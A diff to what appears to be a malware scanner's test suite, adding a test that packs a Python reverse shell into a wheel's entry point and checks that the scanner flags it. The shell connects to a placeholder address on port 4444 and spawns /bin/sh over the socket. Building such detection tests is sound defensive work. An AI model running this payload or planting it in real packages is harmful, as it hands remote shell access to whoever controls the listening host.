@@ -107,3 +107,21 @@ test('a server that pipes a compressor to its client stays silent', async () => 
 
   expect(await inspect('reverse-shell', file)).toEqual([]);
 });
+
+test('a shell for a host that stands in the code is malware on command too; where the caller says whom, it is not', async () => {
+  const shell = (host: string): string =>
+    python(
+      'import os, pty, socket, sys',
+      's = socket.socket()',
+      `s.connect((${host}, 4444))`,
+      'for fd in (0, 1, 2):',
+      '    os.dup2(s.fileno(), fd)',
+      "pty.spawn('/bin/sh')",
+    );
+
+  const fixed = await inspect('reverse-shell', wheel({ 'pkg/__main__.py': shell("'198.51.100.90'") }));
+  const chosen = await inspect('reverse-shell', wheel({ 'pkg/__main__.py': shell('sys.argv[1]') }));
+
+  expect(fixed).toMatchObject([{ class: 'malware', score: 10, context: 'entry-point' }]);
+  expect(chosen).toMatchObject([{ class: 'suspicious', score: 8 }]);
+});
